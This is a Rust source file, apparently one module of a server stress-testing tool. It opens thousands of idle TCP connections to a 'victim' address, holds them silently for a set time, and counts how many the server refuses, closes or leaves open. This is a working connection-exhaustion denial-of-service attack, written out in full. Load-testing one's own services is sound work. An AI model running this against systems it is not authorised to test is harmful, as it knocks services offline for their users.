//! More connections than one's share.

use std::time::Duration;

use tokio::io::AsyncReadExt;
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::{Instant, timeout, timeout_at};

use super::{COUNT_MAX, Error, Findings, SECONDS_MAX, Victim};

/// Opens connections and keeps them, without a word.
#[derive(Clone, Debug, clap::Args)]
pub struct ManyConnections {
    /// How many connections.
    #[arg(long, default_value_t = 5000, value_parser = clap::value_parser!(u32).range(1..=i64::from(COUNT_MAX)))]
    count: u32,
    /// For how long, in seconds.
    #[arg(long, default_value_t = 10, value_parser = clap::value_parser!(u64).range(1..=SECONDS_MAX))]
    seconds: u64,
}

/// How a connection went.
enum End {
    NotAccepted,
    Closed,
    Kept,
}

impl ManyConnections {
    /// Makes the attack.
    ///
    /// # Errors
    /// None of its own.
    pub async fn run(&self, victim: Victim) -> Result<Findings, Error> {
        let end = Instant::now() + Duration::from_secs(self.seconds);
        let mut connections = JoinSet::new();
        for _ in 0..self.count {
            connections.spawn(keep(victim, end));
        }
        let (mut not_accepted, mut closed, mut kept) = (0, 0, 0);
        for one in connections.join_all().await {
            *match one {
                End::NotAccepted => &mut not_accepted,
                End::Closed => &mut closed,
                End::Kept => &mut kept,
            } += 1;
        }
        Ok(vec![
            ("connections", self.count.to_string()),
            ("not accepted", not_accepted.to_string()),
            ("closed by the server", closed.to_string()),
            ("kept to the end, or waiting", kept.to_string()),
        ])
    }
}

async fn keep(victim: Victim, end: Instant) -> End {
    let connecting = TcpStream::connect(victim.address());
    let Ok(Ok(mut socket)) = timeout(Duration::from_secs(10), connecting).await else {
        return End::NotAccepted;
    };
    // The server has nothing to say, so whatever comes is the end.
    match timeout_at(end, socket.read_u8()).await {
        Ok(_) => End::Closed,
        Err(_) => End::Kept,
    }
}
